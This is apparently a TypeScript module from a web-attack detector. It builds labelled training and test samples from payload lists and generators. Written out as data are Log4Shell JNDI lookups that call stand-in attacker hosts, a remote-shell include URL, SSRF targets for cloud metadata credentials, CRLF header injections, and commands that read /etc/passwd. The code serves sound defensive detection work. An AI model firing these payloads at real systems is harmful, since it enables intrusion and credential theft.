/**
 * Attack samples: the shared payload lists and fuzzdb's (split by normalized content into train/test), generators for the classes
 * no list covers (Log4Shell, SSRF, CRLF, scanner probes), and the project's grammar for the classes
 * whose lists are short (SSTI, NoSQL and LDAP injection, open redirect, command injection). Payloads
 * are placed the way attackers send them: as parameter values mostly, and as path segments, headers
 * and cookies too.
 */
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { PAYLOAD_LISTS, type AttackClass } from "../../detect/classes.ts";
import { rng } from "../../core/random.ts";
import { encodeLike, pick, splitPoint, type Sample } from "./sample.ts";
import { grammarPayload, grammarPayloads } from "./grammar.ts";
import { fuzzdbLines, type ListLine } from "./fuzzdb.ts";
import { percentDecode } from "../../parse/decode.ts";

/** Share of the payloads held out for evaluation (by a hash of the normalized line, so it is stable). */
export const PAYLOAD_TEST_SHARE = 0.3;

/** Lines shorter than this once normalized (`'`, `0`, `*|`) are probes, not attacks of one class. */
const MIN_PAYLOAD_LENGTH = 3;

/** Fillers of the lists' placeholders; the first one stands for all in a line's normalized form. */
const PLACEHOLDERS: [RegExp, string[]][] = [
  [/\{FILE\}/g, ["etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "etc/hosts", "proc/self/environ", "var/log/apache2/access.log", "windows/system32/drivers/etc/hosts"]],
  [/\{cmd\}/g, ["id", "cat /etc/passwd", "uname -a", "whoami", "ls -la /"]],
  [/\{target\}/g, ["evil.example", "198.51.100.9", "attacker.example.net"]],
  [/XXpathXX/g, ["http://evil.example/shell.txt", "https://198.51.100.9/c99.txt"]],
];

function fill(line: string, choose: (options: string[]) => string): string {
  let out = line;
  for (const [pattern, options] of PLACEHOLDERS) out = out.replace(pattern, () => choose(options));
  return out;
}

/**
 * The form two payload lines are compared in: placeholders filled the same way, URL escapes decoded
 * once, lower-cased, whitespace collapsed and trimmed. Lines equal in this form are one payload, so
 * they land on one side of the split whichever lists hold them.
 */
export function payloadKey(line: string): string {
  return percentDecode(fill(line, (o) => o[0]!)).toLowerCase().replace(/\s+/g, " ").trim();
}

export interface PayloadLine {
  cls: AttackClass;
  list: string;
  payload: string;
}

/** Lines of the shared payload lists, then of the mapped fuzzdb lists. */
function listLines(datasets: string): ListLine[] {
  const out: ListLine[] = [];
  for (const [list, cls] of Object.entries(PAYLOAD_LISTS)) {
    const path = join(datasets, "payloads", `${list}.txt`);
    if (!existsSync(path)) continue;
    for (const line of readFileSync(path, "utf8").split("\n")) if (line.trim() !== "") out.push({ cls, list, line: line.replace(/\r$/, "") });
  }
  return [...out, ...fuzzdbLines(datasets)];
}

/** Payloads the project's generators make (sampled widely: the grammar picks among a few parts), normalized. */
let generatedKeys: Set<string> | null = null;
function generatorKeys(): Set<string> {
  if (generatedKeys) return generatedKeys;
  generatedKeys = new Set<string>();
  for (const seed of [1, 2, 3]) {
    for (const g of grammarPayloads(60_000, seed)) generatedKeys.add(payloadKey(g.payload));
    for (const s of generatedAttacks(30_000, seed)) generatedKeys.add(payloadKey(s.raw));
  }
  return generatedKeys;
}

export interface PayloadSplitStats {
  /** Distinct (class, normalized line) payloads on each side. */
  train: number;
  test: number;
  /** Normalized lines found on both sides: 0 by construction. */
  onBothSides: number;
  duplicates: number;
  tooShort: number;
  /** Test lines dropped because a generator of the project makes them. */
  generated: number;
}

export interface PayloadSplit {
  train: PayloadLine[];
  test: PayloadLine[];
  stats: PayloadSplitStats;
}

/** Training and evaluation both ask for a side: the lists are read and split once per datasets folder. */
const splits = new Map<string, PayloadSplit>();

/**
 * The payload lists (`payloads/` and fuzzdb), split by normalized content across all lists: one
 * payload, however many lists hold it, is on one side only. Duplicates within a class are dropped;
 * the test side also drops what the project's generators produce, so a test probe is never a value
 * the model was trained on by construction.
 */
export function splitPayloads(datasets: string): PayloadSplit {
  const cached = splits.get(datasets);
  if (cached) return cached;
  const seen = new Set<string>();
  const sides = { train: [] as PayloadLine[], test: [] as PayloadLine[] };
  const keysBySide = { train: new Set<string>(), test: new Set<string>() };
  const stats: PayloadSplitStats = { train: 0, test: 0, onBothSides: 0, duplicates: 0, tooShort: 0, generated: 0 };
  for (const { cls, list, line } of listLines(datasets)) {
    const key = payloadKey(line);
    if (key.length < MIN_PAYLOAD_LENGTH) { stats.tooShort++; continue; }
    if (seen.has(`${cls}\0${key}`)) { stats.duplicates++; continue; }
    seen.add(`${cls}\0${key}`);
    const side = splitPoint(key) < PAYLOAD_TEST_SHARE ? "test" : "train";
    if (side === "test" && generatorKeys().has(key)) { stats.generated++; continue; }
    keysBySide[side].add(key);
    // The same line always gets the same fillers, whichever list it came from.
    const at = splitPoint(`fill:${key}`);
    sides[side].push({ cls, list, payload: fill(line, (o) => o[Math.floor(at * o.length)]!) });
  }
  for (const key of keysBySide.test) if (keysBySide.train.has(key)) stats.onBothSides++;
  stats.train = sides.train.length;
  stats.test = sides.test.length;
  const split = { ...sides, stats };
  splits.set(datasets, split);
  return split;
}

/** The payloads of one side of the split, placeholders filled. */
export function loadPayloadLines(datasets: string, side: "train" | "test"): PayloadLine[] {
  return splitPayloads(datasets)[side];
}

const PARAM_NAMES = ["id", "q", "search", "page", "file", "name", "user", "url", "redirect", "next", "lang", "cat", "item", "path", "template", "query", "data", "callback", "email", "comment"];

/** Puts a payload somewhere an attacker would. Path placement only for classes that work there. */
function placePayload(r: () => number, cls: AttackClass, payload: string, source: string): Sample {
  const roll = r();
  // REST routes carry values in path segments, and servers log and route on them: every class but a
  // whole XML document can arrive there.
  const pathOk = cls !== "xxe";
  if (pathOk && roll < 0.15) {
    return { location: "path", name: "", raw: `/${pick(r, ["static", "files", "download", "api/v1/items", "images"])}/${encodeLike(r, payload, "path").replaceAll("%2F", "/")}`, label: cls, source };
  }
  if (roll < 0.22) return { location: "header", name: pick(r, ["user-agent", "referer", "x-forwarded-for", "x-api-version"]), raw: payload, label: cls, source };
  if (roll < 0.27) return { location: "cookie", name: pick(r, ["session", "pref", "lang", "tracking"]), raw: payload, label: cls, source };
  const location = roll < 0.75 ? "query" : "body";
  return { location, name: pick(r, PARAM_NAMES), raw: encodeLike(r, payload, location), label: cls, source };
}

function log4shell(r: () => number): string {
  const j = pick(r, ["j", "${lower:j}", "${::-j}", "${env:NaN:-j}", "${upper:j}"]);
  const proto = pick(r, ["ldap", "ldaps", "rmi", "dns", "iiop", "${lower:l}${lower:d}a${lower:p}"]);
  const host = pick(r, ["attacker.example", "198.51.100.7:1389", "x.oast.fun", "${hostName}.c2.example", "127.0.0.1:1099"]);
  return `\${${j}ndi:${proto}://${host}/${pick(r, ["a", "Exploit", "o=tomcat", "${sys:java.version}", "Basic/Command/Base64/Y2F0IC9ldGMvcGFzc3dk"])}}`;
}

function ssrf(r: () => number): string {
  const target = pick(r, [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/",
    "http://127.0.0.1:22/", "http://localhost:6379/", "gopher://127.0.0.1:6379/_INFO", "file:///etc/passwd", "dict://127.0.0.1:11211/stats",
    "http://[::1]:8080/admin", "http://0x7f000001/", "http://2130706433/", "http://10.0.0.1/internal", "http://192.168.0.1/admin",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://0.0.0.0:8500/v1/agent/self", "http://127.1/server-status",
  ]);
  return target;
}

function crlf(r: () => number): string {
  return `${pick(r, ["", "/", "en", "index"])}${pick(r, ["%0d%0a", "%0a", "\r\n", "%E5%98%8A%E5%98%8D", "%0d%0a%0d%0a"])}${pick(r, ["Set-Cookie: admin=1", "Location: https://evil.example", "X-Injected: 1", "Content-Length: 0"])}`;
}

const PROBE_PATHS = [
  "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/setup-config.php", "/phpmyadmin/index.php", "/admin/config.php",
  "/.aws/credentials", "/server-status", "/config.php.bak", "/backup.sql", "/db.sql.gz", "/.DS_Store", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/cgi-bin/test-cgi", "/actuator/env", "/console", "/solr/admin/info/system", "/.svn/entries", "/web.config", "/index.php.bak", "/WEB-INF/web.xml",
  "/xmlrpc.php", "/.htaccess", "/api/.env", "/boaform/admin/formLogin", "/HNAP1/", "/owa/auth/logon.aspx", "/autodiscover/autodiscover.xml", "/_profiler/phpinfo",
];
const SCANNER_AGENTS = ["sqlmap/1.8.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "masscan/1.3", "Nmap Scripting Engine", "zgrab/0.x", "WPScan v3.8.25", "Acunetix-Agent", "dirbuster", "gobuster/3.6", "nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Fuzz Faster U Fool v2.1.0"];

const SHORT_LIST_CLASSES: AttackClass[] = ["ssti", "nosqli", "ldapi", "open-redirect", "cmdi", "deserialization"];

/** Generated samples of the classes without a shared list or with a short one, deterministic per seed. */
export function generatedAttacks(count: number, seed: number): Sample[] {
  const r = rng(seed);
  const out: Sample[] = [];
  for (let i = 0; i < count; i++) {
    const kind = i % 7;
    if (kind === 0) out.push(placePayload(r, "log4shell", log4shell(r), "grammar:log4shell"));
    else if (kind === 1) out.push({ location: "query", name: pick(r, ["url", "uri", "target", "feed", "image", "callback", "dest", "host"]), raw: encodeLike(r, ssrf(r), "query"), label: "ssrf", source: "grammar:ssrf" });
    else if (kind === 2) out.push({ location: pick(r, ["query", "path"] as const), name: "lang", raw: crlf(r), label: "crlf", source: "grammar:crlf" });
    else if (kind === 3) out.push({ location: "path", name: "", raw: pick(r, PROBE_PATHS), label: "scanner", source: "grammar:scanner-path" });
    else if (kind === 4) out.push({ location: "header", name: "user-agent", raw: pick(r, SCANNER_AGENTS), label: "scanner", source: "grammar:scanner-agent" });
    else {
      // Short probes (`{{7*7}}`, `//host`, `;id`) as well as long payloads: the lists of these classes hold few.
      const cls = pick(r, SHORT_LIST_CLASSES);
      out.push(placePayload(r, cls, grammarPayload(r, cls), `grammar:${cls}`));
    }
  }
  return out;
}

/** Payload-list samples of one side of the split, placed in varied locations. */
export function payloadSamples(datasets: string, side: "train" | "test", seed: number): Sample[] {
  const r = rng(seed);
  return loadPayloadLines(datasets, side).map((p) => placePayload(r, p.cls, p.payload, `payloads:${p.list}`));
}
